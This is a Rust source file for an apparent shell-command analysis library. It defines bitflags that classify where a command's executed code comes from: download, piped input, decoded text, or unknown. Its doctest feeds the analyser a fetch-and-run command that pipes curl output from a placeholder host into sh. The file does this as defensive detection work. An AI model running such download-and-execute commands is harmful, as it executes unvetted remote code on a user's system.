//! Where the shell text or code that a command runs comes from.

/// A set of sources. A command that runs no code has none.
///
/// ```
/// use sentry_command::CodeSources;
///
/// let reading = sentry_command::read(&["bash", "-c", "curl https://x.test/i | sh"]);
/// let asked = CodeSources::named("download").unwrap_or_default();
/// assert!(!reading.commands[0].code_from.intersects(asked));
/// ```
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, Hash)]
pub struct CodeSources(u8);

/// The sources by the names that rules use, in the order of the bits.
const NAMES: [&str; 4] = ["download", "input", "decoded", "unknown"];

impl CodeSources {
    /// No source.
    pub const NONE: Self = Self(0);
    /// Something that a downloader fetched.
    pub const DOWNLOAD: Self = Self(1);
    /// A pipe or file whose content is not known.
    pub const INPUT: Self = Self(1 << 1);
    /// Text that was encoded: base64, hexadecimal, compressed, turned round.
    pub const DECODED: Self = Self(1 << 2);
    /// A text or program that is not known: `eval "$x"`, `$x -rf`.
    pub const UNKNOWN: Self = Self(1 << 3);

    /// The names of all sources.
    pub const NAMES: &'static [&'static str] = &NAMES;

    /// The source of this name.
    #[must_use]
    pub fn named(name: &str) -> Option<Self> {
        let at = NAMES.iter().position(|other| *other == name)?;
        Some(Self(1 << at))
    }

    /// Both sets together.
    #[must_use]
    pub fn with(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    /// Whether the sets have a source in common.
    #[must_use]
    pub fn intersects(self, other: Self) -> bool {
        self.0 & other.0 != 0
    }

    /// Whether all sources of the other set are in this one.
    #[must_use]
    pub fn contains(self, other: Self) -> bool {
        other.0 & !self.0 == 0
    }

    /// Whether no source is in the set.
    #[must_use]
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The names of the sources in the set.
    pub fn names(self) -> impl Iterator<Item = &'static str> {
        (NAMES.iter().enumerate())
            .filter(move |(at, _)| self.0 & 1 << at != 0)
            .map(|(_, name)| *name)
    }
}
